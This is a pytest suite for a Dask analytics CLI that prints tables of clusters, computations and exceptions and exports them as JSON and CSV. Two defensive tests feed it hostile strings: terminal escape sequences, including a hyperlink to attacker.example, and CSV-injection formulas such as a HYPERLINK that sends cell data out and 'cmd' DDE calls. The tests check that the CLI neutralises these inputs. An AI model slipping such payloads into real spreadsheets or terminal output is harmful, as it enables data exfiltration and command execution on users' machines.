"""`dask-analytics` prints readable tables and exports everything."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
import time

import pytest
from dask.utils import format_bytes

import dask_analytics_lab as dal
from dask_analytics_lab import cli
from dask_analytics_lab.api import close_readers
from dask_analytics_lab.store import open_store
from dask_analytics_lab.tables import seconds, when

from ..cli_helpers import table
from ..cluster_helpers import recorded_cluster
from ..factories import T0, Cluster, group


def fails(x):
    raise KeyError("missing-thing")


@pytest.fixture(scope="module")
def recorded(tmp_path_factory):
    url = "sqlite:///" + str(tmp_path_factory.mktemp("cli") / "cli.db")
    with recorded_cluster(url) as (client, info):
        client.submit(sum, [1, 2]).result()
        f = client.submit(fails, 1)
        with pytest.raises(KeyError):
            f.result()
        dal.flush(client)
    close_readers()
    return url, info["cluster_id"]


def run(*args):
    out = subprocess.run(
        [sys.executable, "-m", "dask_analytics_lab.cli", *args],
        capture_output=True,
        text=True,
        timeout=120,
    )
    return out.returncode, out.stdout, out.stderr


def test_tables(recorded):
    url, cluster_id = recorded
    code, out, _ = run("--store", url, "clusters")
    assert code == 0 and "worker time" in out
    (row,) = [r for r in table(out) if cluster_id.startswith(r["cluster"])]  # its short id
    # closed cleanly; its last sample had no workers left, the table shows how big it was
    assert row["status"] == "stopped" and row["ended"] != "-"
    assert (row["workers"], row["threads"]) == ("2", "2")
    code, out, _ = run("--store", url, "computations", "--cluster", cluster_id)
    assert code == 0
    states = sorted(r["state"] for r in table(out))
    assert states == ["erred", "finished"]
    code, out, _ = run("--store", url, "exceptions", "--traceback")
    assert code == 0 and "missing-thing" in out and "fails" in out and "KeyError" in out


@pytest.fixture
def written(tmp_path):
    """A store to write messages straight into; yields (url, store)."""
    url = "sqlite:///" + str(tmp_path / "cli.db")
    store = open_store(url)
    yield url, store
    store.close()
    close_readers()


def show(capsys, url, *args) -> str:
    assert cli.main(["--store", url, *args]) == 0
    return capsys.readouterr().out


def test_clusters_show_status_end_and_how_big_they_were(written, capsys):
    url, store = written
    write = store.ingest
    now = time.time()
    live, stopped, lost = Cluster(t0=now - 30), Cluster(t0=T0), Cluster(t0=T0 + 1000)
    write(
        [
            live.cluster(name="live-one", started=now - 60),
            live.sample(n_workers=3, n_threads=6, memory_total=3 * 2**30),
        ]
    )
    write(
        [
            stopped.cluster(name="stopped-one"),
            stopped.sample(n_workers=4, n_threads=8, memory_total=2**32),
            stopped.sample(n_workers=0, n_threads=0, memory_total=0, memory_used=0),
            stopped.stop(),
        ]
    )
    write(
        [
            lost.cluster(name="lost-one", started=T0 + 1000),
            lost.sample(n_workers=2, n_threads=4, memory_total=2**31),
        ]
    )
    out = show(capsys, url, "clusters")
    rows = {r["name"]: r for r in table(out)}

    assert rows["live-one"]["status"] == "live" and rows["live-one"]["ended"] == "-"
    assert (rows["live-one"]["workers"], rows["live-one"]["threads"]) == ("3", "6")
    assert rows["live-one"]["memory"] == format_bytes(3 * 2**30)

    stopped_row = store.get_cluster(stopped.id)
    assert rows["stopped-one"]["status"] == "stopped"
    assert rows["stopped-one"]["ended"] == when(stopped_row["stopped"])
    assert rows["stopped-one"]["duration"] == seconds(stopped_row["stopped"] - T0)
    # not the zeros of its last sample
    assert (rows["stopped-one"]["workers"], rows["stopped-one"]["threads"]) == ("4", "8")
    assert rows["stopped-one"]["memory"] == format_bytes(2**32)

    lost_row = store.get_cluster(lost.id)
    assert rows["lost-one"]["status"] == "lost"
    assert rows["lost-one"]["ended"] == when(lost_row["last_seen"])  # when it was last seen
    assert (rows["lost-one"]["workers"], rows["lost-one"]["memory"]) == ("2", format_bytes(2**31))
    assert "the most it had for a stopped or lost one" in out


def test_computations_say_what_ran_and_how_it_ended(written, capsys):
    url, store = written
    write = store.ingest
    c = Cluster()
    write(
        [
            c.cluster(),
            c.code("cell", "df = dd.read_parquet(p)\ndf.groupby('k').v.mean().compute()\n"),
            c.computation(
                "good",
                code=["cell"],
                label="read_parquet → groupby-agg",
                code_line="df.groupby('k').v.mean().compute()",
            ),
            c.computation(
                "bad",
                state="erred",
                groups=[group("load", n_tasks=10, n_erred=3), group("sum", n_tasks=2, n_not_run=2)],
                label="load → sum",
                code=["cell"],
                code_line="total = f(x).compute()",
            ),
            c.computation("hung", state="running", label="slow"),
        ]
    )
    rows = {r["computation"]: r for r in table(show(capsys, url, "computations"))}
    assert rows["good"]["what"] == "read_parquet → groupby-agg"
    assert rows["good"]["code"] == "df.groupby('k').v.mean().compute()"
    assert (rows["good"]["state"], rows["good"]["took"]) == ("finished", seconds(0.5))
    assert (rows["bad"]["state"], rows["bad"]["what"], rows["bad"]["code"]) == (
        "erred",
        "load → sum",
        "total = f(x).compute()",
    )
    assert (
        rows["bad"]["tasks"],
        rows["bad"]["done"],
        rows["bad"]["erred"],
        rows["bad"]["never ran"],
    ) == ("12", "7", "3", "2")
    # its cluster was last heard of in 2023: it will never finish
    assert rows["hung"]["state"] == "lost" and rows["hung"]["took"] != "-"


def test_exceptions_one_row_per_failure(written, capsys):
    url, store = written
    write = store.ingest
    c = Cluster()
    write(
        [
            c.cluster(),
            c.computation("comp", state="erred"),
            c.exception(
                "comp",
                "load",
                h="k",
                count=500,
                exc_type="KeyError",
                location="etl.py:41 in load",
                pattern="KeyError('key-<n>')",
                examples=["KeyError('key-7')", "KeyError('key-9')"],
                exception_text="KeyError('key-7')",
            ),
            c.exception(
                "comp",
                "load",
                h="v",
                count=2,
                exc_type="ValueError",
                location="/home/ann/projects/nightly-etl/pipelines/steps/etl.py:50 in parse",
                pattern="bad value <n>",
                examples=["ValueError('bad value 3')"],
            ),
        ]
    )
    out = show(capsys, url, "exceptions", "--traceback")
    rows = {r["type"]: r for r in table(out.split("\n\n---")[0])}
    assert set(rows) == {"KeyError", "ValueError"}
    assert (
        rows["KeyError"]["count"] == "500" and rows["KeyError"]["location"] == "etl.py:41 in load"
    )
    assert (
        rows["KeyError"]["pattern"] == "KeyError('key-<n>')"
        and rows["KeyError"]["example"] == "KeyError('key-7')"
    )
    assert rows["ValueError"]["example"] == "ValueError('bad value 3')"
    # A long path is cut at its start: the file, the line and the function stay.
    assert rows["ValueError"]["location"] == "…ts/nightly-etl/pipelines/steps/etl.py:50 in parse"
    assert "--- KeyError etl.py:41 in load x500" in out


def test_unknown_cluster_is_a_clear_error(recorded):
    url, _ = recorded
    code, _, err = run("--store", url, "computations", "--cluster", "no-such-cluster")
    assert code == 2 and "no-such-cluster" in err


def test_export_json_and_csv(recorded, tmp_path):
    url, cluster_id = recorded
    code, _, _ = run("--store", url, "export", "--format", "json", "-o", str(tmp_path / "all.json"))
    assert code == 0
    data = json.loads((tmp_path / "all.json").read_text())
    assert any(r["cluster_id"] == cluster_id for r in data["clusters"])
    assert len(data["computations"]) == 2
    code, out, _ = run("--store", url, "export", "--format", "csv", "-o", str(tmp_path / "csv"))
    assert code == 0
    with (tmp_path / "csv" / "computations.csv").open() as f:
        assert len(list(csv.DictReader(f))) == 2


HOSTILE = {
    "title": "\x1b]0;pwned\x07",  # sets the terminal's title
    "clear": "\x1b[2J\x1b[H",  # clears the screen
    "link": "\x1b]8;;http://attacker.example\x1b\\click\x1b]8;;\x1b\\",  # a hyperlink
    "csi8": "\x9b31m",  # the 8-bit CSI
    "bidi": "safe\u202eexe.txt",  # reverses what follows
    "cr": "fine\roverwritten",
}


def test_recorded_strings_cannot_drive_the_terminal(tmp_path):
    """Names, labels, messages and tracebacks come from whatever ran on the cluster: the
    CLI shows their control characters escaped, through every command, in a real process."""
    url = "sqlite:///" + str(tmp_path / "hostile.db")
    store = open_store(url)
    c = Cluster()
    evil = "".join(HOSTILE.values())
    store.ingest(
        [
            c.cluster(name="name" + evil, user="user" + evil),
            c.computation("comp" + HOSTILE["clear"], label="label" + evil, code_line="line" + evil),
            c.exception(
                "comp" + HOSTILE["clear"],
                "group" + evil,
                exc_type="Type" + evil,
                location="loc" + evil,
                pattern="pat" + evil,
                examples=["ex" + evil],
                traceback_text="tb\n  line" + evil + "\n",
            ),
            c.event(topic="topic" + evil, msg="msg" + evil),
        ]
    )
    store.close()
    for args in (
        ["clusters"],
        ["computations"],
        ["exceptions", "--traceback"],
        ["events"],
        ["computations", "--cluster", "no-such" + HOSTILE["title"]],
    ):
        code, out, err = run("--store", url, *args)
        assert code in (0, 2), (args, err)
        for text in (out, err):
            for ch in ("\x1b", "\x07", "\x9b", "\u202e", "\r"):
                assert ch not in text, (args, repr(ch), text[:2000])
        assert "\\x1b" in out + err, args  # shown, escaped
    code, out, _ = run("--store", url, "exceptions", "--traceback")
    assert "tb\n  line" in out  # a traceback keeps its lines


def test_dask_analytics_is_a_dask_subcommand(recorded):
    """Registered under Dask's `dask_cli` entry point: Dask's own `dask` command runs it."""
    url, cluster_id = recorded
    dask_cmd = [
        sys.executable,
        "-c",
        "import sys; from dask.cli import run_cli; sys.argv[0] = 'dask'; run_cli()",
    ]
    out = subprocess.run([*dask_cmd, "--help"], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0 and "analytics" in out.stdout, out.stdout + out.stderr
    out = subprocess.run(
        [*dask_cmd, "analytics", "--store", url, "clusters"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr
    assert [r for r in table(out.stdout) if cluster_id.startswith(r["cluster"])], out.stdout


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_export_keeps_formulas_as_text(tmp_path):
    """Recorded names that a spreadsheet would run as formulas (CSV injection) are
    exported with a leading ' (text); numbers, negative ones too, stay numbers."""
    url = "sqlite:///" + str(tmp_path / "formulas.db")
    store = open_store(url)
    c = Cluster()
    store.ingest(
        [
            c.cluster(name=FORMULAS[0], user=FORMULAS[1]),
            c.computation("comp-1", label=FORMULAS[2], code_line=FORMULAS[3]),
            c.exception(
                "comp-1",
                FORMULAS[4],
                exc_type=FORMULAS[5],
                location="=loc",
                pattern="@pat",
                examples=["=ex"],
                traceback_text="-tb",
            ),
            c.event(topic="+topic", msg={"text": "=msg"}),
        ]
    )
    store.close()
    code, _, err = run("--store", url, "export", "--format", "csv", "-o", str(tmp_path / "csv"))
    assert code == 0, err
    cells = []
    for path in (tmp_path / "csv").glob("*.csv"):
        with path.open(newline="") as f:
            cells += [(path.name, k, v) for r in csv.DictReader(f) for k, v in r.items()]
    dangerous = [cell for cell in cells if cell[2].startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not dangerous, dangerous
    written = {v for _, _, v in cells}
    for text in [*FORMULAS, "=loc", "@pat", "-tb", "+topic"]:
        assert "'" + text in written, text
    # A number is a number (by type, not by how it reads): -3.5 stays -3.5 ...
    from dask_analytics_lab.csvcells import csv_cell

    assert csv_cell(-3.5) == -3.5 and csv_cell(-2) == -2 and csv_cell(None) is None
    assert csv_cell("-3.5") == "'-3.5"  # ... a name that reads like one was recorded as text
    assert csv_cell({"a": "=x"}) == '{"a": "=x"}'
    assert any(k == "start" and float(v) > 0 for name, k, v in cells if name == "computations.csv")
